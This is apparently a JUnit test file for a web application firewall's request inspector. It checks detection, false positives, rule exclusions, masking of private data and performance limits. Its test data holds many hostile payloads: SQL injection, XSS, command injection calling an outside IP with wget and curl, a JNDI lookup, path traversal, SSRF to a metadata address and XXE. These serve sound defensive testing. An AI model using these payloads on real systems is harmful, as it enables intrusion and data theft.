package phalanx.proxy.guard.inspect;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.sun.management.ThreadMXBean;
import java.io.IOException;
import java.lang.management.ManagementFactory;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.BitSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.function.Function;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import phalanx.proxy.guard.rules.Place;
import phalanx.proxy.guard.rules.RuleBook;
import phalanx.proxy.guard.rules.WafRule;
import phalanx.proxy.http.Fields;
import phalanx.proxy.http.RequestHead;

/** What the built-in rules see and what they let pass, in process. */
class InspectorTest {
    private static final String AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0";
    private static final int MOST_OCTETS = 1 << 20;
    private static final long MOST_NANOS = 50_000_000;
    /** The bound where the machine is slow or busy: in passes of the automaton, of which there are 25 in 50 ms. */
    private static final int MOST_PASSES = 25;

    private static final Map<String, Function<String, String>> BODIES = Map.of(
            "text/plain",
            value -> "a=" + value,
            "application/json",
            value -> "{\"a\":\""
                    + value.replace("\\", "\\\\")
                            .replace("\"", "\\\"")
                            .replace("\n", "\\n")
                            .replace("\r", "\\r")
                    + "\"}",
            "application/xml",
            value -> "<a>" + value.replace("<", "&lt;") + "</a>",
            "multipart/form-data; boundary=q",
            value -> "--q\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n" + value + "\r\n--q--\r\n");

    private static final int HOSTILE_VALUES = 2_000; // 10,000 were tried once, up to 1 MiB
    private static final String SIGNS = "'\"`<>=()[]{}&;|$%#*/\\.,:@!-+ \n\tabceilnorstux0123456789";

    private final Inspector inspector = new Inspector(RuleBook.standard());
    private final HeadWalk heads = new HeadWalk(inspector);
    private final BodyWalk bodies = new BodyWalk(inspector, heads);

    @ParameterizedTest
    @CsvSource(
            delimiter = '\t',
            quoteCharacter = '~',
            value = {
                "sqli\tid=7%20union%20all%20select%20name,secret%20from%20staff",
                "sqli\tname=x'%20or%20'a'%3D'a",
                "sqli\tid=7;drop%20table%20staff",
                "sqli\tname=root'--%20",
                "sqli\tid=7%2526%2526sleep(9)",
                "sqli\tid=7/**/UnIoN/**/sElEcT/**/1",
                "xss\tq=<scr<script>ipt>go()</script>",
                "xss\tq=%22%3E%3Cimg%20src=x%20onerror%3Dgo()%3E",
                "xss\tq=%26%23x6a%3Bavascript%3Ago()",
                "xss\tq=java%09script:go()",
                "rce\thost=10.0.0.1;cat%20/var/tmp/x",
                "rce\thost=a%0Awget%20http://198.51.100.7/x",
                "rce\thost=$(id)",
                "rce\thost=;c%27a%27t%20/x/y",
                "rce\thost=|c%5Eu%5Erl%20http://198.51.100.7/",
                "lfi\tfile=../../../../../srv/keys",
                "lfi\tfile=..%252f..%252f..%252fsrv",
                "lfi\tfile=%c0%ae%c0%ae%c0%afsrv",
                "lfi\tfile=php://filter/read=x/resource=y",
                "lookup\tx=${jndi:ldap://198.51.100.7/a}",
                "lookup\tx=${${lower:j}ndi:rmi://198.51.100.7/a}",
                "ssti\tx={{7*'7'}}",
                "nosql\tuser[$ne]=x",
                "deserialize\tx=rO0ABXNyABFqYXZhLnV0aWwu",
                "ssrf\turl=http://169.254.169.254/latest/",
                "split\tx=a%0d%0aSet-Cookie:%20b=c",
                "ldap\tuser=*)(uid=*))(|(uid=*",
                "sqli\tx=JyB1bmlvbiBzZWxlY3QgcGFzc3dvcmQgZnJvbSB1c2Vycw"
            })
    void attacks_in_a_query_are_seen(String category, String query) {
        head("GET", "/find?" + query);
        assertTrue(inspector.score() >= 5, query + " " + inspector.findings());
        assertTrue(
                inspector.findings().stream().anyMatch(f -> f.rule().category().equals(category)),
                query + " " + inspector.findings());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/",
                "/a/b.html?x=1&y=2&z=hello+world",
                "/find?q=O%27Neill%20and%20Sons",
                "/find?q=select+a+gift+from+our+shop",
                "/find?q=drop+the+table+near+the+union+station",
                "/find?q=cat+and+mouse%3B+dogs",
                "/find?q=5+%3C+7+and+9+%3E+8",
                "/find?q=rock+%26+roll+-+live+(1999)",
                "/find?mail=anna.b%40example.com&note=It%27s+fine%2C+don%27t+worry",
                "/find?next=%2Faccount%3Ftab%3D2%26sort%3Dup",
                "/find?price=%E2%82%AC+12%2C50&when=2026-11-22T10%3A00%3A00Z",
                "/find?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abcDEF123",
                "/static/app.min.js?v=3f2a9c",
                "/m%C3%BCller/stra%C3%9Fe"
            })
    void what_people_send_passes(String target) {
        head("GET", target);
        assertEquals(0, inspector.score(), () -> target + " " + inspector.findings());
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '\t',
            quoteCharacter = '~',
            value = {
                "application/x-www-form-urlencoded\ta=1&b=x%27+or+1%3D1--+",
                "application/json\t{\"a\":[{\"b\":\"x' or 1=1-- \"}]}",
                "application/json\t{\"a\":\"\\u0078' or 1\\u003d1-- \"}",
                "application/xml\t<a><b c=\"x' or 1=1-- \"/></a>",
                "application/xml\t<a>x&#x27; &#111;r 1=1-- </a>",
                "application/xml\t<a b=\"&amp;lt;script&amp;gt;\"/>",
                "application/xml\t<a><![CDATA[x' or 1=1-- ]]></a>",
                "text/plain\tx' or 1=1-- ",
                "application/xml\t<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///x\">]><a>&b;</a>",
                "multipart/form-data; boundary=q\t--q|Content-Disposition: form-data; name=\"a\"||x' or 1=1-- |--q--|"
            })
    void attacks_in_bodies_are_seen(String type, String written) {
        byte[] body = written.replace("|", "\r\n").getBytes(StandardCharsets.UTF_8);
        inspector.begin(1, 5, ExcludedRules.NONE);
        bodies.body(type, body, body.length, true);
        assertTrue(inspector.score() >= 5, inspector.findings().toString());
    }

    @ParameterizedTest
    @ValueSource(strings = {"/%s*", "/x/%s?%s*", ";/%s?", "<%s:%s=%s", "%s.%s(", "$%s[%s]"})
    void words_longer_than_any_that_is_known_are_read_to_their_end(String shape) {
        for (int length = 36; length < 44; length++) {
            head("GET", "/find?q=" + shape.replace("%s", "a".repeat(length)));
            assertTrue(inspector.score() < 5, () -> shape + " " + inspector.findings());
        }
    }

    /** The windows that long values are read in are 16 KiB, each beginning 512 octets before the last one's end. */
    @ParameterizedTest
    @ValueSource(strings = {"/*%s*/", "/*%s*/ /*%s*/", "/*%s*/all/*%s*/", "-- %s\n", "#%s\n#%s\n", "blanks"})
    void no_comment_and_no_blanks_are_so_long_that_they_hide_a_query(String gap) {
        for (int length : new int[] {300, 700, 20_000}) {
            String between = gap.equals("blanks") ? " ".repeat(length) : gap.replace("%s", "a".repeat(length));
            byte[] body = ("x".repeat((16 << 10) - 20) + "7 union " + between + " select name from staff"
                            + "y".repeat(20_000))
                    .getBytes(StandardCharsets.UTF_8);
            inspector.begin(1, 5, ExcludedRules.NONE);
            bodies.body("text/plain", body, body.length, true);
            assertTrue(
                    inspector.findings().stream()
                            .anyMatch(f -> f.rule().category().equals("sqli")),
                    () -> length + " " + inspector.findings());
        }
    }

    @Test
    void what_is_refused_is_not_looked_at_for_long() {
        String attack = "x' or 1=1-- ";
        byte[] body = (attack + "a ".repeat(100_000) + "<script>").getBytes(StandardCharsets.UTF_8);
        inspector.begin(1, 5, ExcludedRules.NONE);
        bodies.body("text/plain", body, body.length, true);
        assertTrue(inspector.settled());
        assertTrue(
                inspector.findings().stream().noneMatch(f -> f.rule().category().equals("xss")));
        inspector.begin(1, 1_000, ExcludedRules.NONE);
        bodies.body("text/plain", body, body.length, true);
        assertTrue(
                inspector.findings().stream().anyMatch(f -> f.rule().category().equals("xss")));
    }

    @Test
    void a_finding_names_its_place_and_masks_what_may_be_somebody_s_own() {
        head("GET", "/find?user=x%27+or+%27secret%27%3D%27secret");
        Finding finding = inspector.findings().getFirst();
        assertEquals(Place.QUERY, finding.place());
        assertEquals("user", finding.name());
        assertTrue(
                inspector.findings().stream().noneMatch(f -> f.fragment().contains("secret")),
                () -> inspector.findings().toString());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "anna%40example.com%27+or+1%3D1--",
                "anna%40example.com%27+or+1%3D1--=",
                "my+secret+words=7+union+select+1",
                "secret+words%0D%0ASet-Cookie%3A+b%3Dc=1"
            })
    void what_is_no_name_that_a_program_gives_is_told_nowhere(String query) {
        head("GET", "/find?" + query);
        assertTrue(inspector.score() >= 5, () -> inspector.findings().toString());
        assertTrue(inspector.findings().stream()
                .noneMatch(f -> f.toString().contains("anna") || f.toString().contains("secret")));
    }

    @Test
    void the_name_of_an_object_is_not_that_of_what_comes_behind_it() {
        byte[] body = "[{\"q\":\"words\"},\"x' or 1=1-- \"]".getBytes(StandardCharsets.UTF_8);
        inspector.begin(1, 5, ExcludedRules.NONE);
        bodies.body("application/json", body, body.length, true);
        assertTrue(inspector.score() >= 5);
        assertTrue(inspector.findings().stream().allMatch(f -> f.name().isEmpty()));
    }

    @Test
    void excluded_rules_do_not_hold() {
        BitSet sqli = new BitSet();
        RuleBook.standard().rules().stream()
                .filter(r -> r.category().equals("sqli"))
                .forEach(r -> sqli.set(r.number()));
        inspector.begin(1, 5, new ExcludedRules(sqli, Map.of()));
        heads.head(request("GET", "/find?id=7%20union%20select%201"));
        assertEquals(0, inspector.score());
    }

    @ParameterizedTest
    @CsvSource({
        "0, q=7%20union%20select%201&Q=/etc/passwd",
        "1, q=7%20union%20select%201&p=7%20union%20select%201",
        "1, p=7%20union%20select%201&q=7%20union%20select%201",
        "1, q=/etc/passwd&p=/etc/passwd",
        "1, p=/etc/passwd&q=/etc/passwd",
        "1, q%20=/etc/passwd",
        "1, 7%20union%20select%201"
    })
    void rules_that_are_excluded_in_one_argument_hold_in_all_others(int held, String query) {
        BitSet all = new BitSet();
        RuleBook.standard().rules().forEach(rule -> all.set(rule.number()));
        inspector.begin(1, 5, new ExcludedRules(new BitSet(), Map.of("q", all)));
        heads.head(request("GET", "/find?" + query));
        assertEquals(held > 0, inspector.score() > 0, inspector.findings().toString());
        assertTrue(inspector.findings().stream().noneMatch(f -> f.name().equals("q")));
    }

    @Test
    void the_name_of_a_library_counts_only_where_much_is_asked_for() {
        RequestHead curl = new RequestHead(
                "GET",
                "/",
                11,
                "http",
                "example.com",
                new Fields().add("Host", "example.com").add("User-Agent", "curl/8.14.1"),
                0,
                true,
                null);
        for (int level : new int[] {1, 3, 4}) {
            inspector.begin(level, 5, ExcludedRules.NONE);
            heads.head(curl);
            assertEquals(level < 4 ? 0 : 2, inspector.score(), "level " + level);
        }
    }

    @Test
    void a_clean_request_allocates_next_to_nothing() {
        RequestHead head = request("GET", "/a/b.html?x=1&y=hello+world&z=2026-11-22");
        ExcludedRules none = ExcludedRules.NONE;
        ThreadMXBean threads = (ThreadMXBean) ManagementFactory.getThreadMXBean();
        long perRequest = Long.MAX_VALUE;
        for (int round = 0; round < 20 && perRequest > 64; round++) { // until it is compiled
            long before = threads.getCurrentThreadAllocatedBytes();
            for (int i = 0; i < 10_000; i++) {
                inspector.begin(1, 5, none);
                heads.head(head);
            }
            perRequest = Math.min(perRequest, (threads.getCurrentThreadAllocatedBytes() - before) / 10_000);
        }
        assertTrue(perRequest <= 64, perRequest + " octets a request");
    }

    @Test
    void no_value_costs_more_than_50_ms() {
        StringBuilder slow = new StringBuilder();
        for (String unit : new String[] {
            "'",
            "\"",
            "`",
            "((((",
            "[",
            "{\"a\":",
            "<a ",
            "<a on=",
            "=",
            "&#x",
            "%25",
            "%u",
            "\\u",
            "../",
            "${",
            "$(",
            ";",
            "|",
            "\n",
            "/*",
            "/*!",
            "--",
            "' or ",
            "union select ",
            "select(",
            "chr(1).",
            "eval(",
            "QUJD",
            "javascript:",
            "c^a^t",
            "; ls ",
            "/bin/c?t ",
            "0x2e",
            "a,b;",
            "@{",
            "'%'",
            "''",
            "\r\n",
            "a b ",
            "'a'+",
            "; ; ",
            "&&",
            "\\\\",
            "<svg/",
            "${",
            "$!{",
            "{%",
            "<a on="
        }) {
            hostile(unit, unit.repeat((1 << 20) / unit.length()), slow);
        }
        SplittableRandom random = new SplittableRandom(7);
        for (int i = 0; i < HOSTILE_VALUES; i++) {
            int length = 16 << random.nextInt(i % 50 == 0 ? 17 : 6);
            hostile("random " + i, shape(random, i % 4, length), slow);
        }
        assertEquals("", slow.toString());
    }

    /** Signs alone, with literals of one rule, with those of all rules, or a few of them again and again. */
    private static String shape(SplittableRandom random, int kind, int length) {
        List<WafRule> rules = RuleBook.standard().rules();
        WafRule rule = rules.get(random.nextInt(rules.size()));
        int unit = kind == 3 ? Math.min(length, 1 + random.nextInt(16)) : length;
        StringBuilder value = new StringBuilder(length);
        while (value.length() < unit) {
            rule = kind < 2 ? rule : rules.get(random.nextInt(rules.size()));
            if (kind > 0 && !rule.literals().isEmpty() && random.nextInt(3) == 0) {
                value.append(rule.literals().get(random.nextInt(rule.literals().size())));
            }
            value.append(SIGNS.charAt(random.nextInt(SIGNS.length())));
        }
        return value.toString().repeat(Math.max(1, length / value.length()));
    }

    /** CPU time, the best of twenty: others may use the machine and its caches, and the first ones are not compiled yet. */
    private void hostile(String name, String value, StringBuilder slow) {
        for (Map.Entry<String, Function<String, String>> body : BODIES.entrySet()) {
            byte[] octets = body.getValue().apply(value).getBytes(StandardCharsets.ISO_8859_1);
            int length = Math.min(octets.length, MOST_OCTETS);
            long most = MOST_NANOS;
            long best = Long.MAX_VALUE;
            for (int i = 0; i < 20 && best > most; i++) {
                best = Math.min(best, cpu(() -> {
                    inspector.begin(4, 5, ExcludedRules.NONE);
                    bodies.body(body.getKey(), octets, length, length == octets.length);
                }));
                if (best > most) {
                    most = Math.max(MOST_NANOS, MOST_PASSES * onePass());
                }
            }
            if (best > most) {
                slow.append(String.format(
                        Locale.ROOT, "%s %s: %d of %d ms%n", body.getKey(), name, best / 1_000_000, most / 1_000_000));
            }
        }
    }

    /** What one pass of the automaton over a MiB costs at this moment, which on an idle machine is 2 ms. */
    private static long onePass() {
        byte[] text = "hello world, ".repeat(MOST_OCTETS / 13).getBytes(StandardCharsets.ISO_8859_1);
        int[] quiet = new int[RuleBook.standard().literals()];
        return cpu(() -> RuleBook.standard().automaton().search(text, text.length, quiet, (_, _) -> {}));
    }

    private static long cpu(Runnable work) {
        ThreadMXBean threads = (ThreadMXBean) ManagementFactory.getThreadMXBean();
        long before = threads.getCurrentThreadCpuTime();
        work.run();
        return threads.getCurrentThreadCpuTime() - before;
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "1 or 1=1 union select name from staff",
                "$x='sys'.'tem';$x('id')",
                "{{7*'7'}}",
                "x && for f in /srv/*; do cat $f; done",
                "a\r\nSet-Cookie: b=c",
                "$(document.cookie)"
            })
    void attacks_behind_pages_of_prose_are_seen(String attack) throws IOException {
        String prose = Files.readString(Path.of("resources/help/en/root-cause.md"));
        StringBuilder text = new StringBuilder();
        while (text.length() < 30_000) {
            text.append(prose);
        }
        byte[] before = text.toString().getBytes(StandardCharsets.UTF_8);
        inspector.begin(1, 5, ExcludedRules.NONE);
        bodies.body("text/plain", before, before.length, true);
        int prosePoints = inspector.score();
        byte[] all = text.append("\n\n").append(attack).toString().getBytes(StandardCharsets.UTF_8);
        inspector.begin(1, 5, ExcludedRules.NONE);
        bodies.body("text/plain", all, all.length, true);
        assertTrue(
                inspector.score() >= prosePoints + 5, () -> inspector.findings().toString());
    }

    private void head(String method, String target) {
        inspector.begin(1, 5, ExcludedRules.NONE);
        heads.head(request(method, target));
    }

    private static RequestHead request(String method, String target) {
        Fields fields = new Fields()
                .add("Host", "example.com")
                .add("User-Agent", AGENT)
                .add("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
                .add("Accept-Language", "en-US,en;q=0.5")
                .add("Accept-Encoding", "gzip, deflate, br")
                .add("Cookie", "session=0a1b2c3d4e5f; theme=dark")
                .add("Referer", "https://example.com/a?b=c&d=e");
        return new RequestHead(method, target, 11, "http", "example.com", fields, 0, true, null);
    }
}
